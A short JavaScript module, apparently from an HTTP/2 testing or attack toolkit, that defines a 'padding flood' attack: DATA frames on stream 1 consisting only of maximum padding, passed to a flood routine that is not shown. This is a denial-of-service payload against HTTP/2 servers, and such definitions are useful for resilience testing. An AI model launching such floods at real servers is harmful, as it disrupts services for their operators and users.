import * as wire from '../http2/wire.js';
import { flood } from './flood.js';

/** DATA that is nothing but padding. */
export const attack = flood(
  'padding flood',
  wire.frame(wire.DATA, wire.PADDED, 1, Buffer.concat([Buffer.of(255), Buffer.alloc(255)])),
);
